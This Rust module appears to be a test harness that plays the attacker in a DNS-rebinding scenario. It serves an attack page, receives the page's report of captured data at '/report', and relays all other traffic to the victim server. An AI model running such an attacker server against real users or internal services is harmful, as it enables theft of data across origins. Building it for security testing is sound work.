//! # The attacker: a page of his, and a name that he points at somebody else's server
//!
//! Whatever is asked of him under `/page` gets the page, `/report` is where it tells what it got hold
//! of. Everything else goes to the server he attacks, unchanged, as when a name begins to stand for
//! another address while its page is open.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::time::Duration;

use anyhow::{Context as _, Result};
use serde_json::Value;

const PAGE: &str = include_str!("attack.html");
const REPORT_WITHIN: Duration = Duration::from_secs(180);
const HEAD_BYTES_MAX: usize = 65_536;

pub(crate) struct Evil {
    listener: TcpListener,
    port: u16,
}

impl Evil {
    pub(crate) fn new() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        Ok(Self { listener, port })
    }

    /// Of his page, under this name.
    pub(crate) fn origin(&self, name: &str) -> String {
        format!("http://{name}:{}", self.port)
    }

    /// Begins to serve; what his page will have got hold of when it tries `target`.
    pub(crate) fn attack(self, target: &str, victim: SocketAddr) -> Result<Loot> {
        let report = format!("http://127.0.0.1:{}/report", self.port);
        let page = PAGE.replace("TARGET", target).replace("REPORT", &report);
        let (told, loot) = channel();
        std::thread::spawn(move || {
            for stream in self.listener.incoming().flatten() {
                let (page, told) = (page.clone(), told.clone());
                // A browser that goes away is no concern of his.
                std::thread::spawn(move || serve(stream, &page, victim, &told).ok());
            }
        });
        Ok(Loot(loot))
    }
}

pub(crate) struct Loot(Receiver<String>);

impl Loot {
    pub(crate) fn await_report(&self) -> Result<Value> {
        let report = self.0.recv_timeout(REPORT_WITHIN).context("the page has not reported")?;
        Ok(serde_json::from_str(&report)?)
    }
}

fn serve(
    mut stream: TcpStream,
    page: &str,
    victim: SocketAddr,
    told: &Sender<String>,
) -> Result<()> {
    let mut bytes = vec![];
    let end = loop {
        let mut piece = [0; 4096];
        let read = stream.read(&mut piece)?;
        bytes.extend(&piece[..read]);
        match bytes.windows(4).position(|four| four == b"\r\n\r\n") {
            Some(end) => break end + 4,
            None if read == 0 || bytes.len() > HEAD_BYTES_MAX => return Ok(()),
            None => {}
        }
    };
    let head = String::from_utf8_lossy(&bytes[..end]).into_owned();
    let target = head.split(' ').nth(1).unwrap_or_default();
    match target {
        "/page" => answer(&mut stream, page),
        "/report" => {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(": ")?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
            });
            let mut body = bytes[end..].to_vec();
            let missing = length.unwrap_or(0_usize).saturating_sub(body.len());
            let mut rest = vec![0; missing];
            stream.read_exact(&mut rest)?;
            body.extend(rest);
            told.send(String::from_utf8(body)?).ok();
            answer(&mut stream, "")
        }
        _ => pass_on(stream, &bytes, victim),
    }
}

fn answer(stream: &mut TcpStream, page: &str) -> Result<()> {
    let length = page.len();
    write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {length}\r\n\
         Connection: close\r\n\r\n{page}"
    )?;
    Ok(())
}

/// The rest of this connection is between the browser and the server.
fn pass_on(browser: TcpStream, begun: &[u8], victim: SocketAddr) -> Result<()> {
    let mut server = TcpStream::connect(victim)?;
    server.write_all(begun)?;
    let (mut from_server, mut to_browser) = (server.try_clone()?, browser.try_clone()?);
    let back = std::thread::spawn(move || {
        let copied = std::io::copy(&mut from_server, &mut to_browser);
        to_browser.shutdown(std::net::Shutdown::Both).ok();
        copied
    });
    let mut browser = browser;
    std::io::copy(&mut browser, &mut server).ok();
    server.shutdown(std::net::Shutdown::Both).ok();
    back.join().ok();
    Ok(())
}
